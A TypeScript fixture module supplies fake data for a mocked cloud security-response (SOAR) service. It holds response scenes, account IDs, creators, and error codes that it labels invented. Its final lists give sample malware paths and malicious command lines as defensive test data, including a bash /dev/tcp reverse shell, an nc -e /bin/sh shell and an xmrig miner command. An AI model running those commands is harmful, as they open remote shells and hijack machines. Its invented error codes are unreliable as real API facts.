/**
 * The vocabulary of the fake data: response scenes, accounts, creators, error cases.
 * Scene codes and names are plausible inventions (the real catalogue is per account and
 * not public); change them here.
 */
import type { ProcessTask } from '../../shared/sophonsoar';

export type ResponseKind = 'block' | 'isolate' | 'kill';

/** The products whose actions Sophonsoar runs (the YunCode field). */
export type YunCode = 'WAF' | 'CFW' | 'Aegis';

export interface Scene {
  code: string;
  en: string;
  zh: string;
  yunCode: YunCode;
  entityType: 'ip' | 'file' | 'process';
  kind: ResponseKind;
  weight: number;
}

export const SCENES: readonly Scene[] = [
  {
    code: 'waf_ip_block',
    en: 'WAF: block attacking IP',
    zh: 'WAF封禁攻击IP',
    yunCode: 'WAF',
    entityType: 'ip',
    kind: 'block',
    weight: 22,
  },
  {
    code: 'waf_cc_source_block',
    en: 'WAF: block CC attack source',
    zh: 'WAF封禁CC攻击源',
    yunCode: 'WAF',
    entityType: 'ip',
    kind: 'block',
    weight: 10,
  },
  {
    code: 'cfw_inbound_ip_block',
    en: 'Cloud Firewall: block inbound malicious IP',
    zh: '云防火墙封禁入方向恶意IP',
    yunCode: 'CFW',
    entityType: 'ip',
    kind: 'block',
    weight: 18,
  },
  {
    code: 'cfw_outbound_c2_block',
    en: 'Cloud Firewall: block outbound C2 address',
    zh: '云防火墙封禁出方向C2地址',
    yunCode: 'CFW',
    entityType: 'ip',
    kind: 'block',
    weight: 10,
  },
  {
    code: 'aegis_malicious_file_quarantine',
    en: 'Security Center: quarantine malicious file',
    zh: '云安全中心隔离恶意文件',
    yunCode: 'Aegis',
    entityType: 'file',
    kind: 'isolate',
    weight: 14,
  },
  {
    code: 'aegis_webshell_quarantine',
    en: 'Security Center: quarantine webshell',
    zh: '云安全中心隔离网站后门',
    yunCode: 'Aegis',
    entityType: 'file',
    kind: 'isolate',
    weight: 8,
  },
  {
    code: 'aegis_malicious_process_kill',
    en: 'Security Center: terminate malicious process',
    zh: '云安全中心结束恶意进程',
    yunCode: 'Aegis',
    entityType: 'process',
    kind: 'kill',
    weight: 10,
  },
  {
    code: 'aegis_miner_process_kill',
    en: 'Security Center: kill mining process',
    zh: '云安全中心结束挖矿进程',
    yunCode: 'Aegis',
    entityType: 'process',
    kind: 'kill',
    weight: 8,
  },
];

/** Account IDs (Scope) of a small multi-account organisation. */
export const ACCOUNTS: readonly (readonly [string, number])[] = [
  ['1436871203985512', 6],
  ['5512348890017723', 3],
  ['1098765432109876', 2],
  ['1865432109870044', 1],
];

export const SOURCE_WEIGHTS: readonly (readonly [string, number])[] = [
  ['system', 45],
  ['custom', 22],
  ['custom_alert', 15],
  ['soar-manual', 12],
  ['soar-mdr', 6],
];

export const CREATORS_BY_SOURCE: Record<string, readonly string[]> = {
  system: ['system'],
  custom: ['secops-automation', 'wang.li@1436871203985512.onaliyun.com', 'ops-bot'],
  custom_alert: ['secops-automation', 'alert-router'],
  'soar-manual': [
    'alice.chen@1436871203985512.onaliyun.com',
    'bob.zhang@1436871203985512.onaliyun.com',
    'li.na@5512348890017723.onaliyun.com',
    'karim.haddad@1436871203985512.onaliyun.com',
  ],
  'soar-mdr': ['mdr-analyst-07', 'mdr-analyst-12'],
};

type ErrorFields = Required<Pick<ProcessTask, 'ErrCode' | 'ErrMsg' | 'ErrTip'>>;

/**
 * Sophonsoar's own playbook error for bad component parameters: the one ErrCode, ErrMsg and
 * ErrTip the API reference shows (sophonsoar-api.md §3). It can end a task of any product.
 */
const PLAYBOOK_PARAM_ERROR: ErrorFields = {
  ErrCode: 'sts_openapi.Info.DefenseSceneNotSupported',
  ErrMsg: 'ParamError : The parameters of your request are invalid',
  ErrTip: 'Verify that the input parameters of the components are correct',
};

/**
 * Why a response action fails (status 90), per product and kind of action: each product's
 * tasks fail only with that product's codes. UNVERIFIED: every code but PLAYBOOK_PARAM_ERROR
 * is invented in the `<product>_openapi.<Area>.<Reason>` pattern of the documented one.
 */
export const FAILURES: Record<YunCode, Partial<Record<ResponseKind, readonly ErrorFields[]>>> = {
  WAF: {
    block: [
      PLAYBOOK_PARAM_ERROR,
      {
        ErrCode: 'waf_openapi.Quota.BlacklistFull',
        ErrMsg: 'QuotaExceeded : The number of blocked IP addresses exceeds the limit of the instance',
        ErrTip: 'Remove expired entries from the blacklist or upgrade the edition',
      },
      {
        ErrCode: 'waf_openapi.Instance.NotFound',
        ErrMsg: 'InstanceNotFound : The WAF instance does not exist or has expired',
        ErrTip: 'Check that the WAF instance is active in the selected account',
      },
    ],
  },
  CFW: {
    block: [
      PLAYBOOK_PARAM_ERROR,
      {
        ErrCode: 'cfw_openapi.Quota.AddressBookFull',
        ErrMsg: 'QuotaExceeded : The address book of the firewall holds the maximum number of addresses',
        ErrTip: 'Remove expired addresses from the address book or upgrade the edition',
      },
      {
        ErrCode: 'cfw_openapi.Instance.NotFound',
        ErrMsg: 'InstanceNotFound : The firewall instance does not exist or has expired',
        ErrTip: 'Check that the Cloud Firewall instance is active in the selected account',
      },
    ],
  },
  Aegis: {
    isolate: [
      {
        ErrCode: 'aegis_openapi.Client.Offline',
        ErrMsg: 'ClientOffline : The Security Center agent on the server is offline',
        ErrTip: 'Check that the agent is online and run the task again',
      },
      {
        ErrCode: 'aegis_openapi.File.NotFound',
        ErrMsg: 'FileNotFound : The file to quarantine no longer exists',
        ErrTip: 'The file may have been deleted already; no action is needed',
      },
    ],
    kill: [
      {
        ErrCode: 'aegis_openapi.Client.Offline',
        ErrMsg: 'ClientOffline : The Security Center agent on the server is offline',
        ErrTip: 'Check that the agent is online and run the task again',
      },
      {
        ErrCode: 'aegis_openapi.Process.Exited',
        ErrMsg: 'ProcessNotFound : The process exited before it could be terminated',
        ErrTip: 'No action is needed if the process does not restart',
      },
    ],
  },
};

/** The failures a task of `scene` can end with; throws for a product/kind pair with none. */
export function failuresOf(scene: Pick<Scene, 'yunCode' | 'kind'>): readonly ErrorFields[] {
  const list = FAILURES[scene.yunCode][scene.kind];
  if (!list?.length) throw new Error(`No failures for ${scene.yunCode} ${scene.kind} in the catalogue`);
  return list;
}

/**
 * Why undoing a response fails, per product: an unblock (status 91) for WAF and Cloud
 * Firewall, a restore (status 92) for Security Center. UNVERIFIED: invented codes.
 */
export const UNDO_FAILURES: Record<YunCode, ErrorFields> = {
  WAF: {
    ErrCode: 'waf_openapi.Blacklist.RemoveFailed',
    ErrMsg: 'UnblockFailed : The IP address could not be removed from the blacklist of the WAF instance',
    ErrTip: 'Remove the IP address from the blacklist manually in the WAF console',
  },
  CFW: {
    ErrCode: 'cfw_openapi.AddressBook.RemoveFailed',
    ErrMsg: 'UnblockFailed : The IP address could not be removed from the address book of the firewall',
    ErrTip: 'Remove the IP address from the address book manually in the Cloud Firewall console',
  },
  Aegis: {
    ErrCode: 'aegis_openapi.Restore.Failed',
    ErrMsg: 'RestoreFailed : The quarantined file could not be restored',
    ErrTip: 'Check the disk space and permissions of the original path, then try again',
  },
};

/**
 * Each product's catalogue: the scene codes its tasks carry and the error codes they can
 * fail with. `{ sceneCodes, errCodes }`, both sets of strings.
 */
export function productCatalogue(yunCode: YunCode): { sceneCodes: Set<string>; errCodes: Set<string> } {
  const failures = Object.values(FAILURES[yunCode]).flat();
  return {
    sceneCodes: new Set(SCENES.filter((s) => s.yunCode === yunCode).map((s) => s.code)),
    errCodes: new Set([...failures, UNDO_FAILURES[yunCode]].map((f) => f.ErrCode)),
  };
}

export const FILE_PATHS: readonly string[] = [
  '/tmp/.X11-unix/kdevtmpfsi',
  '/var/www/html/uploads/shell.php',
  '/root/.cache/.xmrig/xmrig',
  '/usr/local/bin/.sysupdate',
  '/home/deploy/.ssh/.bashd',
  '/var/tmp/.ICE-unix/dbused',
  '/opt/app/webapps/ROOT/cmd.jsp',
  'C:\\Users\\Public\\svchost.exe',
  'C:\\Windows\\Temp\\mimikatz.exe',
  '/etc/cron.hourly/.update',
];

export const PROCESSES: readonly (readonly [name: string, cmdline: string])[] = [
  ['xmrig', '/root/.cache/.xmrig/xmrig -o pool.minexmr.example:4444 --donate-level 1'],
  ['kdevtmpfsi', '/tmp/.X11-unix/kdevtmpfsi'],
  ['kinsing', '/tmp/kinsing -c /tmp/.kconf'],
  ['dbused', '/var/tmp/.ICE-unix/dbused -pwn'],
  ['bash', 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'],
  ['perl', 'perl -e use Socket;$i="198.51.100.23";$p=1337;'],
  ['nc', 'nc -e /bin/sh 192.0.2.14 9001'],
];
